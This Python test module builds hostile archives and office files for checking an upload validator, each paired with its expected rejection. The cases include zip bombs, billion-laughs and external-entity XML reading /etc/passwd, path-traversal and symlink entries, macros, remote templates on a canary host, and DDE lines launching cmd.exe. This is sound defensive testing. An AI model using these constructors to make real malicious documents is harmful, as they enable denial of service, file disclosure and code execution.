"""Hostile zip archives, office files and OpenDocument."""

from __future__ import annotations

import io
import stat
import zipfile
from collections.abc import Callable, Iterator, Mapping

from tests.exchange.files.makings import good, ole, pdf
from tests.exchange.files.packing import (
    MAINS,
    ODF_SPACES,
    Entry,
    S,
    W,
    odf,
    office,
    office_parts,
    parts,
    relations,
    zeros,
    zipped,
)
from tests.exchange.files.specimen import Given

OFFICE = ("docx", "xlsx", "pptx")
BOMB = "file-unpacks-too-big"
LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><x>&j;</x>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "%s">]><x>&e;</x>'
REMOTE = "http://canary.invalid"


def _entry(name: str, content: bytes = b"x") -> Entry:
    return Entry(name.encode(), content)


def _with(code: str, *more: Entry) -> bytes:
    held = office_parts(code) if code in OFFICE else {"surat.pdf": pdf()}
    return zipped([*(Entry(name.encode(), one) for name, one in held.items()), *more])


def zip_bombs() -> Iterator[Given]:
    for code in ("zip", *OFFICE):
        for size in (501, 600, 2_000):
            name = b"a.txt" if code == "zip" else b"media/a.xml"
            yield f"b.{code}", _with(code, Entry(name, b"", zeros(1) * size, size * 1_000_000)), BOMB
    yield "banyak.zip", zipped([Entry(b"%d.txt" % n, b"", zeros(60), 60_000_000) for n in range(10)]), BOMB


def lying_bombs() -> Iterator[Given]:
    for code in ("zip", *OFFICE):
        for claimed in (10, 5_000, 900_000):
            yield f"b.{code}", _with(code, Entry(b"a.txt", b"", zeros(100) * 8, claimed)), BOMB


def sheet_bombs() -> Iterator[Given]:
    head, tail = f"<worksheet {S}><sheetData>".encode(), b"</sheetData></worksheet>"
    for size in (520, 800):
        sheet = Entry(b"xl/worksheets/sheet1.xml", b"", zeros(100, (head, tail)) + b"", size * 1_000_000)
        rest = {name: one for name, one in office_parts("xlsx").items() if "sheet1" not in name}
        yield "b.xlsx", zipped([*(Entry(name.encode(), one) for name, one in rest.items()), sheet]), BOMB


def far_cells() -> Iterator[Given]:
    for cell, row in (("XFD1048576", 1_048_576), ("A1048576", 1_048_576), ("ZZZZ99999999", 99_999_999)):
        sheet = f'<worksheet {S}><sheetData><row r="{row}"><c r="{cell}"><v>1</v></c></row></sheetData></worksheet>'
        yield "jauh.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet.encode()}), "taken"


def laughs() -> Iterator[Given]:
    for code in OFFICE:
        for name in (MAINS[code][0], "docProps/core.xml", "customXml/item1.xml"):
            yield f"lucu.{code}", office(code, {name: LAUGHS}), "file-has-doctype"
    for code in ("odt", "ods", "odp"):
        yield f"lucu.{code}", odf(code, more={"meta.xml": LAUGHS}), "file-has-doctype"


def outside_entities() -> Iterator[Given]:
    for code in OFFICE:
        for target in (b"file:///etc/passwd", b"http://canary.invalid/x", b"php://filter"):
            yield f"luar.{code}", office(code, {MAINS[code][0]: OUTSIDE % target}), "file-has-doctype"


def deep_xml() -> Iterator[Given]:
    for depth in (1_000, 50_000, 300_000):
        inner = b"<w:p>" * depth + b"</w:p>" * depth
        body = f"<w:document {W}><w:body>".encode() + inner + b"</w:body></w:document>"
        yield "dalam.docx", office("docx", {"word/document.xml": body}), "any"
    yield "dalam.odt", odf("odt", "<text:span>" * 50_000 + "</text:span>" * 50_000), "any"


def path_names() -> Iterator[Given]:
    for name in ("../surat.txt", "a/../../surat.txt", "..\\surat.txt", "a/b/../../../surat.txt", "./../x.txt"):
        for code in ("zip", "docx"):
            yield f"jalan.{code}", _with(code, _entry(name)), "file-odd-part"


def absolute_names() -> Iterator[Given]:
    for name in ("/etc/cron.d/x.txt", "C:/x.txt", "C:\\x.txt", "\\\\server\\x.txt", "//server/x.txt"):
        yield "mutlak.zip", _with("zip", _entry(name)), "file-odd-part"


def odd_names() -> Iterator[Given]:
    for name in ("a\x00.txt", "a\n.txt", "laporan\u202etxt.pdf", "\u2066x.txt", "/".join("a" * 20) + ".txt"):
        yield "nama.zip", _with("zip", Entry(name.encode(), b"x", flags=0x800)), "refused"
    yield "nama.zip", _with("zip", Entry(b"\xff\xfe\x80.txt", b"x")), "any"


def links() -> Iterator[Given]:
    for target in (b"/etc/passwd", b"../../db.sqlite3", b"surat.pdf"):
        for code in ("zip", "docx"):
            yield (
                f"taut.{code}",
                _with(code, Entry(b"t.txt", target, mode=(stat.S_IFLNK | 0o777) << 16)),
                "file-odd-part",
            )


def doubled() -> Iterator[Given]:
    for code in ("zip", *OFFICE):
        first = "surat.pdf" if code == "zip" else MAINS[code][0]
        yield f"dua.{code}", _with(code, _entry(first, b"<x/>")), "file-broken"
        yield f"dua.{code}", _with(code, _entry(first.upper(), b"<x/>")), "file-broken"


def locked() -> Iterator[Given]:
    for code in ("zip", *OFFICE):
        yield f"kunci.{code}", _with(code, Entry(b"rahasia.txt", b"x" * 40, flags=1)), "file-encrypted"
    yield "kunci.docx", ole("EncryptedPackage", "EncryptionInfo"), "file-kind-differs"
    sealed = "<manifest:encryption-data/>"
    manifest = f'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">{sealed}'
    yield (
        "kunci.odt",
        odf("odt", more={"META-INF/manifest.xml": f"{manifest}</manifest:manifest>".encode()}),
        "file-encrypted",
    )


def zip64_lies() -> Iterator[Given]:
    data = good("zip")
    at = data.rindex(b"PK\x05\x06")
    for value in (b"\xff" * 4, b"\0" * 4):
        record = b"PK\x06\x06" + (44).to_bytes(8, "little") + bytes(12) + (1 << 40).to_bytes(8, "little") * 4
        locator = b"PK\x06\x07" + bytes(4) + at.to_bytes(8, "little") + (1).to_bytes(4, "little")
        end = bytearray(data[at:])
        end[12:16] = value
        yield "64.zip", data[:at] + record + locator + bytes(end), "refused"
    for field in (8, 10, 12, 16):
        end = bytearray(data[at:])
        end[field : field + 2] = b"\xff\xff"
        yield "64.zip", data[:at] + bytes(end), "any"


def overlapping() -> Iterator[Given]:
    for count in (2, 50, 3_000):
        first = Entry(b"0.txt", b"a" * 1_000)
        yield (
            "tindih.zip",
            zipped([first, *(Entry(b"%d.txt" % n, b"a" * 1_000, at=0) for n in range(1, count))]),
            "refused",
        )


def nested() -> Iterator[Given]:
    data = good("zip")
    for depth in range(1, 11):
        data = parts({f"lapis{depth}.zip": data})
        yield f"lapis{depth}.zip", data, "file-nested"
    for name in ("a.rar", "a.7z", "a.tar", "a.jar"):
        yield "lain.zip", parts({name: b"Rar!" * 20}), "file-nested"


def many_parts() -> Iterator[Given]:
    for count in (5_001, 20_000):
        yield "ribuan.zip", parts({f"{n}.txt": b"x" for n in range(count)}, method=0), "file-too-many-parts"
    yield "ribuan.docx", office("docx", {f"word/media/{n}.xml": b"<x/>" for n in range(5_001)}), "file-too-many-parts"


def programs_inside() -> Iterator[Given]:
    for name, data in (
        ("a.exe", b"MZ\x90\0"),
        ("foto.jpg", b"MZ\x90\0" + bytes(90)),
        ("a.sh", b"#!/bin/sh\n"),
        ("a.txt", b"#!/bin/sh\n"),
        ("a.html", b"<html>"),
        ("a.docm", b"PK"),
        ("a.lnk", b"L\0\0\0"),
        ("autorun.inf", b"[autorun]"),
        ("tanpa", b"x"),
        ("a.txt", b"<script>alert(1)</script>"),
    ):
        yield "isi.zip", parts({"surat.pdf": pdf(), name: data}), "refused"
    yield "isi.zip", parts({"a.docx": office("docx", {"word/vbaProject.bin": b"x"})}), "file-has-macros"
    yield "isi.zip", parts({"a.pdf": good("png")}), "file-kind-differs"


def macros() -> Iterator[Given]:
    for code, main in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):
        for name in (
            f"{main}/vbaProject.bin",
            f"{main}/VBAPROJECT.BIN",
            f"{main}/vbaData.xml",
            "customUI/vbaProject.bin",
        ):
            yield f"makro.{code}", office(code, {name: b"x"}), "file-has-macros"
        kind = f"application/vnd.ms-{main}.document.macroEnabled.main+xml"
        yield f"makro.{code}", office(code, macros=kind), "file-has-macros"
    yield "makro.docm", office("docx", {"word/vbaProject.bin": b"x"}), "file-kind-unknown"
    yield "makro.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "file-has-macros"


def odf_macros() -> Iterator[Given]:
    for code in ("odt", "ods", "odp"):
        yield f"makro.{code}", odf(code, more={"Basic/Standard/Module1.xml": b"<x/>"}), "file-has-macros"
        yield f"makro.{code}", odf(code, more={"Scripts/python/x.py": b"print()"}), "file-has-macros"
    event = '<text:p><script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:x"/></text:p>'
    yield "makro.odt", odf("odt", event), "file-has-macros"


def templates() -> Iterator[Given]:
    for target in (
        f"{REMOTE}/x.dotm",
        f"{REMOTE.replace('http', 'https')}/x",
        "\\\\canary.invalid\\x.dotm",
        "//canary.invalid/x",
        "file://canary.invalid/x.dotm",
    ):
        rels = relations(("attachedTemplate", target, True))
        yield "templat.docx", office("docx", {"word/_rels/settings.xml.rels": rels}), "file-fetches"
    own = relations(("attachedTemplate", "file:///C:/Users/ayu/Normal.dotm", True))
    yield "templat.docx", office("docx", {"word/_rels/settings.xml.rels": own}), "note-outside-links"


def remote_pictures() -> Iterator[Given]:
    for code, place in (
        ("docx", "word/_rels/document.xml.rels"),
        ("xlsx", "xl/drawings/_rels/drawing1.xml.rels"),
        ("pptx", "ppt/slides/_rels/slide1.xml.rels"),
    ):
        for target in (f"{REMOTE}/p.png", "file:///etc/passwd", "//canary.invalid/p.png"):
            yield f"luar.{code}", office(code, {place: relations(("image", target, True))}), "note-outside-links"
    frame = f'<text:p><draw:frame><draw:image xlink:href="{REMOTE}/p.png"/></draw:frame></text:p>'
    for code in ("odt", "ods", "odp"):
        yield f"luar.{code}", odf(code, frame), "note-outside-links"


def remote_objects() -> Iterator[Given]:
    for kind in ("oleObject", "frame", "subDocument", "package"):
        rels = relations((kind, f"{REMOTE}/x.rtf", True))
        yield "objek.docx", office("docx", {"word/_rels/document.xml.rels": rels}), "file-fetches"
    for element in ("object", "plugin", "floating-frame", "applet"):
        body = f'<text:p><draw:frame><draw:{element} xlink:href="{REMOTE}/x"/></draw:frame></text:p>'
        yield "objek.odt", odf("odt", body), "file-fetches"


def dde() -> Iterator[Given]:
    for words in ('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', "DDE cmd x", ' DDEAUTO "C:\\\\x"'):
        for split in (len(words), 2):
            pieces = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in (words[:split], words[split:]))
            body = f"<w:document {W}><w:body><w:p>{pieces}</w:p></w:body></w:document>"
            yield "dde.docx", office("docx", {"word/document.xml": body.encode()}), "file-starts-program"
    link = f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    yield "dde.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": link.encode()}), "file-starts-program"
    source = '<text:p><text:dde-connection-decl office:dde-application="cmd"/></text:p>'
    yield "dde.odt", odf("odt", source), "file-starts-program"


def embedded() -> Iterator[Given]:
    package = ole("\x01Ole10Native")
    for code, main in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt")):
        yield f"tanam.{code}", office(code, {f"{main}/embeddings/oleObject1.bin": package}), "file-has-embedded"
        yield f"tanam.{code}", office(code, {f"{main}/embeddings/a.xlsx": good("xlsx")}), "note-embedded"
        yield f"tanam.{code}", office(code, {f"{main}/embeddings/a.xlsm": good("xlsx")}), "file-has-embedded"


def utf16_parts() -> Iterator[Given]:
    for code in OFFICE:
        text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'
        yield f"huruf.{code}", office(code, {"customXml/a.xml": text.encode("utf-16")}), "refused"


def odd_methods() -> Iterator[Given]:
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", method) as archive:
            archive.writestr("a.txt", b"x" * 1_000)
        yield "cara.zip", out.getvalue(), "file-broken"
    for method in (9, 12, 93, 97, 65_535):
        yield "cara.zip", zipped([Entry(b"a.txt", b"x", method=method)]), "file-broken"


def two_ends() -> Iterator[Given]:
    data = good("zip")
    yield "akhir.zip", data + data, "any"
    yield "akhir.zip", data[:-2] + b"\x16\0" + data[-22:], "refused"
    yield "akhir.zip", data + b"x" * 40, "refused"
    yield "kosong.zip", b"PK\x05\x06" + bytes(18), "refused"
    yield "palsu.docx", parts({"[Content_Types].xml": b"<x/>", "_rels/.rels": b"<x/>"}), "refused"
    yield "salah.docx", good("zip"), "file-kind-differs"
    yield "salah.odt", f"<x {ODF_SPACES}/>".encode(), "file-kind-differs"


FAMILIES: Mapping[str, Callable[[], Iterator[Given]]] = {
    "zip-bomb": zip_bombs,
    "zip-bomb-that-lies": lying_bombs,
    "xlsx-bomb": sheet_bombs,
    "xlsx-far-cell": far_cells,
    "billion-laughs": laughs,
    "external-entity": outside_entities,
    "deep-xml": deep_xml,
    "path-names": path_names,
    "absolute-names": absolute_names,
    "odd-part-names": odd_names,
    "symlink-entries": links,
    "doubled-entries": doubled,
    "encrypted-container": locked,
    "zip64-lies": zip64_lies,
    "overlapping-entries": overlapping,
    "nested-zips": nested,
    "too-many-entries": many_parts,
    "programs-in-zip": programs_inside,
    "macros-renamed": macros,
    "odf-macros": odf_macros,
    "external-template": templates,
    "remote-pictures": remote_pictures,
    "remote-objects": remote_objects,
    "dde-in-office": dde,
    "embedded-objects": embedded,
    "utf-16-parts": utf16_parts,
    "odd-compression": odd_methods,
    "two-directories": two_ends,
}
